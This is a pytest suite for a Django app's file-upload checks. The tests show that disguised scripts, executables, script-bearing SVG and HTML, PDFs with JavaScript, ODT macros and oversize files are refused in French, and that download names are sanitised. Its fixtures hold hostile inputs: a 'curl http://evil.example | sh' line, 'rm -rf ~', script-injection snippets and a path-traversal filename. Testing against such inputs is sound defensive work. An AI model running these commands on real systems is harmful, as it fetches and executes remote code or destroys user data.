"""Uploads: the type is read from the content, bad files are refused in French and nothing is stored."""

import html

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from library.models import Resource
from library.uploads import UploadRefused, check_upload, safe_display_name
from tests.accounts.factories import PASSWORD
from tests.library.factories import PNG, mediator, odt_bytes, pdf_bytes, theme

MAX = 10 * 1024 * 1024


def text(response) -> str:
    return html.unescape(response.content.decode())


def test_a_real_pdf_odt_and_png_are_accepted_under_the_type_their_content_shows():
    assert check_upload(pdf_bytes(), "Guide IA.pdf", max_bytes=MAX).mime == "application/pdf"
    assert check_upload(odt_bytes(), "fiche.odt", max_bytes=MAX).mime == "application/vnd.oasis.opendocument.text"
    checked = check_upload(PNG, "capture.PNG", max_bytes=MAX)
    assert (checked.mime, checked.extension, checked.name) == ("image/png", ".png", "capture.png")


@pytest.mark.parametrize(
    ("data", "name", "message"),
    [
        (
            b"#!/bin/sh\ncurl http://evil.example | sh\n",
            "guide.pdf",
            "porte le nom d'un PDF mais son contenu n'en est pas un",
        ),
        (
            b"<html><script>alert(1)</script></html>",
            "guide.pdf",
            "porte le nom d'un PDF mais son contenu n'en est pas un",
        ),
        (b"MZ\x90\x00" + b"\x00" * 64, "setup.exe", "Ce type de fichier n'est pas accepté"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "logo.svg", "n'est pas accepté"),
        (b"%PDF-1.7\nnot really a pdf", "guide.pdf", "Ce PDF est illisible ou abîmé"),
        (b"", "vide.pdf", "Le fichier est vide"),
    ],
)
def test_scripts_and_strangers_are_refused_in_french(data, name, message):
    with pytest.raises(UploadRefused, match=message):
        check_upload(data, name, max_bytes=MAX)


def test_a_pdf_that_runs_javascript_or_carries_a_program_is_refused():
    for data in (pdf_bytes(javascript=True), pdf_bytes(attachment=True)):
        with pytest.raises(UploadRefused, match="contient du code ou des fichiers cachés"):
            check_upload(data, "guide.pdf", max_bytes=MAX)


def test_an_odt_with_macros_is_refused():
    with pytest.raises(UploadRefused, match="contient des macros"):
        check_upload(odt_bytes(macro=True), "fiche.odt", max_bytes=MAX)


def test_a_name_that_lies_about_the_content_is_refused():
    with pytest.raises(UploadRefused, match=r"Le nom du fichier \(\.png\) ne correspond pas à son contenu \(PDF\)"):
        check_upload(pdf_bytes(), "photo.png", max_bytes=MAX)


def test_a_file_too_large_is_refused_with_its_size():
    with pytest.raises(UploadRefused, match=r"trop lourd \(0,0 Mo\) : 0,0 Mo au plus"):
        check_upload(pdf_bytes(), "guide.pdf", max_bytes=100)


def test_the_name_offered_on_download_is_tamed():
    assert safe_display_name("../../etc/pass wd<script>.pdf", ".pdf") == "pass wd_script.pdf"
    assert safe_display_name("...", ".odt") == "document.odt"


@pytest.fixture
def member(db, client):
    user = mediator()
    client.login(username=user.email, password=PASSWORD)
    return user


def _propose(client, upload, **fields):
    data = {
        "title": "Guide de la sécurité",
        "summary": "Les bons réflexes.",
        "url": "",
        "licence": "etalab-2.0",
        "format": "guide",
        "level": "beginner",
        "language": "fr",
        "themes": [theme("cybersecurity").pk],
        "file": upload,
        **fields,
    }
    return client.post(reverse("library:resource_new"), data)


def test_a_member_uploads_a_pdf_and_it_is_stored_under_our_own_name(client, member, settings):
    response = _propose(client, SimpleUploadedFile("Mon guide.pdf", pdf_bytes(), content_type="application/pdf"))
    resource = Resource.objects.get()
    assert response.status_code == 302
    assert (resource.file_type, resource.file_name, resource.url) == ("application/pdf", "Mon guide.pdf", "")
    assert resource.file.name.startswith("library/") and "Mon guide" not in resource.file.name
    assert (settings.MEDIA_ROOT / resource.file.name).read_bytes()[:5] == b"%PDF-"


@pytest.mark.parametrize(
    ("upload", "message"),
    [
        (
            SimpleUploadedFile("guide.pdf", b"#!/bin/bash\nrm -rf ~\n", content_type="application/pdf"),
            "son contenu n'en est pas un",
        ),
        (SimpleUploadedFile("guide.pdf", pdf_bytes(javascript=True), content_type="application/pdf"), "JavaScript"),
        (SimpleUploadedFile("page.html", b"<html></html>", content_type="text/html"), "n'est pas accepté"),
    ],
)
def test_a_bad_upload_is_refused_in_french_and_nothing_is_stored(client, member, settings, upload, message):
    response = _propose(client, upload)
    assert response.status_code == 400
    assert message in text(response)
    assert not Resource.objects.exists()
    assert not (settings.MEDIA_ROOT / "library").exists()


def test_an_upload_over_the_limit_is_refused(client, member, settings):
    settings.LIBRARY_MAX_UPLOAD_MB = 0
    response = _propose(client, SimpleUploadedFile("guide.pdf", pdf_bytes(), content_type="application/pdf"))
    assert response.status_code == 400
    assert "Le fichier est trop lourd : 0 Mo au plus." in text(response)
    assert not Resource.objects.exists()


def test_a_link_and_a_file_together_are_refused(client, member):
    upload = SimpleUploadedFile("guide.pdf", pdf_bytes(), content_type="application/pdf")
    response = _propose(client, upload, url="https://example.org/guide")
    assert response.status_code == 400
    assert "Donnez un lien ou un fichier, pas les deux." in text(response)
    assert not Resource.objects.exists()


def test_neither_link_nor_file_is_refused(client, member):
    response = _propose(client, "")
    assert response.status_code == 400
    assert "Donnez un lien ou joignez un fichier." in text(response)
